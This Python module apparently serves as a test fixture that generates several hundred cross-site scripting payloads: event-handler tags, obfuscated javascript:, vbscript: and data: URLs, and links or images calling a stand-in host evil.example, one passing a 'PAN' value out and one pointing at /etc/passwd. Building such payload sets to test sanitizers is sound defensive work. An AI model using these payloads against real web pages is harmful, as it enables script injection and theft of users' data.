"""Texts that a careless page runs, draws or asks another host for. Each that runs sets `pwned` or opens a dialog."""

import tomllib
from itertools import product
from pathlib import Path

RUN = "window.pwned=1"
HOST = "evil.example"

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart")
_TAGS = (
    "<img src=x {on}={run}>",
    '<img src="https://{host}/p.png" {on}="{run}">',
    "<svg {on}={run}>",
    "<svg><animate {on}={run} attributeName=x dur=1s>",
    "<body {on}={run}>",
    "<details open {on}={run}>x</details>",
    "<input autofocus {on}={run}>",
    "<video src=x {on}={run}></video>",
    "<audio src=x {on}={run}>",
    "<iframe src=https://{host} {on}={run}></iframe>",
    "<marquee {on}={run}>x</marquee>",
    "<IMG SRC=x {on}\u2028={run}>",
    '"><img src=x {on}={run}>',
    "'><svg/{on}={run}//",
    "</p></li></ul><img src=x {on}={run}>",
)
_SCHEMES = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java&#x09;script:{run}", "&#106;avascript:{run}",
    "\x01javascript:{run}", "vbscript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={run}>",
    "blob:https://{host}/x", "//{host}/x", "https://{host}/?d=PAN", "http://{host}", "\\\\{host}\\x", "file:///etc/passwd",
    "https:{host}", "https://127.0.0.1.{host}/", "https://user@{host}/", "intent://{host}#Intent;scheme=https;end",
)  # fmt: skip
_LINKS = (
    "[your letter]({url})",
    "![picture]({url})",
    '<a href="{url}">letter</a>',
    "<form action={url}><button>go</button></form>",
    "<link rel=stylesheet href={url}>",
    "<object data={url}></object>",
    "<{url}>",
)


def payloads() -> list[str]:
    """At least 300, each once, each in one line."""
    made = [tag.format(on=handler, run=RUN, host=HOST) for tag, handler in product(_TAGS, _HANDLERS)]
    urls = [scheme.format(run=RUN, host=HOST) for scheme in _SCHEMES]
    made += [link.format(url=url) for link, url in product(_LINKS, urls)]
    by_hand = tomllib.loads((Path(__file__).parent / "payloads.toml").read_text(encoding="utf-8"))["texts"]
    made += [one.format(run=RUN, host=HOST) for one in by_hand]
    return list(dict.fromkeys(made))
